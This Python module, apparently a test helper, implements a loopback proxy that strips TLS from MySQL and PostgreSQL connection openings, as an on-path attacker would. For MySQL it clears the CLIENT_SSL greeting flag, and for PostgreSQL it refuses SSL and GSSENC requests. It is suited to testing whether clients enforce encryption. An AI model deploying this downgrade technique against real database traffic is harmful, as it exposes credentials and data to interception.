"""A TCP proxy on 127.0.0.1 that strips TLS from a connection's opening, as an attacker on the path would.

* ``"mysql"``: clears ``CLIENT_SSL`` in the capability flags of the server's
  greeting, so a client that starts TLS only when it is offered goes on in
  plaintext.
* ``"postgres"``: answers ``N`` to the client's ``SSLRequest`` (and
  ``GSSENCRequest``) itself, never forwarding it, so the server sees a
  plaintext startup.

Everything after the opening is passed on unchanged. It runs an asyncio loop
on its own daemon thread, so it serves clients on any event loop; every
connection is closed when the proxy stops.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
import threading
from types import TracebackType
from typing import Literal

from .processes import LOOPBACK

__all__ = ["CLIENT_SSL", "DowngradeProxy"]

#: The MySQL capability flag "the server can switch to TLS" (in the greeting's lower two flag bytes).
CLIENT_SSL = 0x0800
_PG_SSL_REQUEST = 80877103
_PG_GSSENC_REQUEST = 80877104


def strip_mysql_tls(packet: bytes) -> bytes:
    """The MySQL HandshakeV10 ``packet`` (header included) with ``CLIENT_SSL`` cleared."""
    payload = bytearray(packet)
    # header (4) + protocol version (1) + server version (NUL-terminated) + thread id (4) + scramble (8) + filler (1)
    flags_at = payload.index(0, 5) + 1 + 4 + 8 + 1
    (flags,) = struct.unpack_from("<H", payload, flags_at)
    struct.pack_into("<H", payload, flags_at, flags & ~CLIENT_SSL)
    return bytes(payload)


async def _pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    except OSError:
        pass
    finally:
        writer.close()


class DowngradeProxy:
    """A proxy from 127.0.0.1:``port`` to ``target`` that strips TLS from the opening (see the module)."""

    def __init__(self, target: tuple[str, int], protocol: Literal["mysql", "postgres"]) -> None:
        self.target = target
        self.protocol = protocol
        self.port = 0
        #: Openings rewritten so far (greetings changed, or TLS requests answered ``N``).
        self.downgraded = 0
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, name="downgrade-proxy", daemon=True)
        self._server: asyncio.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()

    def start(self) -> DowngradeProxy:
        self._thread.start()
        self._server = asyncio.run_coroutine_threadsafe(self._listen(), self._loop).result(10)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def _listen(self) -> asyncio.Server:
        return await asyncio.start_server(self._serve, LOOPBACK, 0)

    def _serve(self, client_r: asyncio.StreamReader, client_w: asyncio.StreamWriter) -> None:
        task = asyncio.get_running_loop().create_task(self._relay(client_r, client_w))
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _relay(self, client_r: asyncio.StreamReader, client_w: asyncio.StreamWriter) -> None:
        server_w: asyncio.StreamWriter | None = None
        try:
            server_r, server_w = await asyncio.open_connection(*self.target)
            if self.protocol == "mysql":
                header = await server_r.readexactly(4)
                body = await server_r.readexactly(int.from_bytes(header[:3], "little"))
                self.downgraded += 1  # counted before the client can see it
                client_w.write(strip_mysql_tls(header + body))
            else:
                while True:
                    opening = await client_r.readexactly(8)
                    length, code = struct.unpack("!ii", opening)
                    if length == 8 and code in (_PG_SSL_REQUEST, _PG_GSSENC_REQUEST):
                        self.downgraded += 1
                        client_w.write(b"N")
                        continue
                    server_w.write(opening)
                    break
            await asyncio.gather(_pipe(client_r, server_w), _pipe(server_r, client_w))
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            client_w.close()
            if server_w is not None:
                server_w.close()

    async def _shutdown(self) -> None:
        if self._server is not None:
            self._server.close()
        for task in list(self._tasks):
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    def stop(self) -> None:
        if self._thread.is_alive():
            with contextlib.suppress(Exception):
                asyncio.run_coroutine_threadsafe(self._shutdown(), self._loop).result(10)
            self._loop.call_soon_threadsafe(self._loop.stop)
            self._thread.join(10)
        if not self._loop.is_running():
            self._loop.close()

    def __enter__(self) -> DowngradeProxy:
        return self.start()

    def __exit__(self, kind: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None) -> None:
        self.stop()
